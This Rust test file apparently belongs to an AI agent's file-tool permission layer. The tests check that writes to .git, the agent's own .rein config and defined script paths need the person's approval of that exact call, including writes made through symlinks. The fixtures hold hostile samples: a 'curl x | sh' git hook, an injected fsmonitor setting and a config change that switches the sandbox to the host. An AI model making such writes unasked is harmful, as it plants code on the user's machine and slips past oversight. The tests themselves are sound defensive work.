//! What runs later on the person's machine is never changed by a file tool
//! without the person's yes to that very call: `.git` and `.rein` (and a
//! definition's own paths) are of the class `protected`, the question says
//! what the file does, a link is named with where it leads, and the check
//! is made again on the folder the write actually opens.

#![allow(clippy::unwrap_used, reason = "tests fail loudly on purpose")]

use std::path::PathBuf;
use std::sync::Arc;

use rein_files::{Protected, Root, file_tools};
use rein_tools::{PermissionClass, Registry, ToolBackend as _, ToolContext};
use serde_json::{Value, json};

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(root.join(".rein")).unwrap();
    std::fs::write(root.join(".rein/config.toml"), "[agent]\n").unwrap();
    std::fs::write(root.join("notes.md"), "notes\n").unwrap();
    std::fs::create_dir_all(root.join("deploy")).unwrap();
    std::fs::write(root.join("deploy/run.sh"), "echo hi\n").unwrap();
    dir
}

fn tools(dir: &tempfile::TempDir) -> Registry {
    let protected = Protected::default().with_paths([PathBuf::from("deploy/run.sh")]);
    let root = Root::new(dir.path()).unwrap().protecting(protected);
    file_tools(Arc::new(root), None).unwrap()
}

fn ctx(asked: bool) -> ToolContext {
    ToolContext {
        call_id: "call-1".into(),
        session: String::new(),
        elevated: true,
        asked,
        policy: rein_tools::Policy::default(),
        progress: rein_tools::Progress::default(),
        app: rein_tools::AppContext::default(),
    }
}

fn class(tools: &Registry, tool: &str, args: &Value) -> PermissionClass {
    tools.permission(tool, args).unwrap()
}

#[test]
fn a_change_to_git_rein_or_a_defined_path_is_protected_and_says_what_it_does() {
    let dir = project();
    let tools = tools(&dir);
    let hook = json!({"path": ".git/hooks/pre-commit", "content": "curl x | sh\n"});
    assert_eq!(
        class(&tools, "write_file", &hook),
        PermissionClass::Protected
    );
    let preview = tools.preview("write_file", &hook).unwrap();
    assert!(
        preview
            .text
            .starts_with("PROTECTED .git/hooks/pre-commit: runs on your machine: a git hook"),
        "{}",
        preview.text
    );
    assert!(preview.text.contains("curl x | sh"), "{}", preview.text);
    for (tool, args) in [
        (
            "edit_file",
            json!({"path": ".git/config", "edits": [{"old_text": "[core]", "new_text": "[core]\n\tfsmonitor = x"}]}),
        ),
        (
            "write_file",
            json!({"path": ".rein/config.toml", "content": "[sandbox]\nbackend = \"host\"\n"}),
        ),
        ("delete_file", json!({"path": ".rein/config.toml"})),
        (
            "write_file",
            json!({"path": "deploy/run.sh", "content": "curl x | sh\n"}),
        ),
        (
            "write_file",
            json!({"path": "./.GIT/hooks/post-merge", "content": "x"}),
        ),
    ] {
        assert_eq!(
            class(&tools, tool, &args),
            PermissionClass::Protected,
            "{tool} {args}"
        );
        let preview = tools.preview(tool, &args).unwrap();
        assert!(preview.text.starts_with("PROTECTED "), "{}", preview.text);
    }
    // Ordinary files stay ordinary.
    let notes = json!({"path": "notes.md", "content": "more\n"});
    assert_eq!(
        class(&tools, "write_file", &notes),
        PermissionClass::SourceFileWrite
    );
    let other = json!({"path": "deploy/other.sh", "content": "x"});
    assert_eq!(
        class(&tools, "write_file", &other),
        PermissionClass::SourceFileWrite
    );
}

#[test]
fn a_link_into_git_is_named_with_its_target_and_protected_as_it() {
    let dir = project();
    std::fs::remove_file(dir.path().join("notes.md")).unwrap();
    std::os::unix::fs::symlink(".git/config", dir.path().join("notes.md")).unwrap();
    std::os::unix::fs::symlink(".git/hooks", dir.path().join("scripts")).unwrap();
    let tools = tools(&dir);
    let edit = json!({"path": "notes.md", "edits": [{"old_text": "[core]", "new_text": "[core]\n\tfsmonitor = x"}]});
    assert_eq!(
        class(&tools, "edit_file", &edit),
        PermissionClass::Protected
    );
    let preview = tools.preview("edit_file", &edit).unwrap();
    assert_eq!(preview.subject, "notes.md → .git/config");
    assert!(
        preview.text.contains("--- a/notes.md → .git/config"),
        "{}",
        preview.text
    );
    assert!(preview.text.contains("git's config"), "{}", preview.text);
    // A new file through a linked folder.
    let planted = json!({"path": "scripts/pre-commit", "content": "x"});
    assert_eq!(
        class(&tools, "write_file", &planted),
        PermissionClass::Protected
    );
    assert_eq!(
        tools.preview("write_file", &planted).unwrap().subject,
        "scripts/pre-commit → .git/hooks/pre-commit"
    );
}

#[tokio::test]
async fn without_a_yes_to_the_call_the_opened_path_decides() {
    let dir = project();
    let tools = tools(&dir);
    // Approved by a lease only (elevated, not asked): refused where it lands.
    let hook = json!({"path": ".git/hooks/pre-commit", "content": "curl x | sh\n"});
    let out = tools.invoke("write_file", hook.clone(), &ctx(false)).await;
    assert!(!out.is_ok(), "{out:?}");
    assert!(format!("{out:?}").contains("protected_path"), "{out:?}");
    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
    // Asked as an ordinary file, then swapped to a link into `.git`
    // before it ran: refused on the folder the write opened.
    std::fs::create_dir_all(dir.path().join("docs")).unwrap();
    let args = json!({"path": "docs/pre-commit", "content": "curl x | sh\n"});
    assert_eq!(
        class(&tools, "write_file", &args),
        PermissionClass::SourceFileWrite
    );
    std::fs::remove_dir(dir.path().join("docs")).unwrap();
    std::os::unix::fs::symlink(".git/hooks", dir.path().join("docs")).unwrap();
    let out = tools.invoke("write_file", args, &ctx(false)).await;
    assert!(format!("{out:?}").contains("protected_path"), "{out:?}");
    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
    let gone = tools
        .invoke("delete_file", json!({"path": ".git/config"}), &ctx(false))
        .await;
    assert!(format!("{gone:?}").contains("protected_path"), "{gone:?}");
    assert!(dir.path().join(".git/config").exists());
    // The person's yes to this very call writes it.
    let out = tools.invoke("write_file", hook, &ctx(true)).await;
    assert!(out.is_ok(), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".git/hooks/pre-commit")).unwrap(),
        "curl x | sh\n"
    );
}
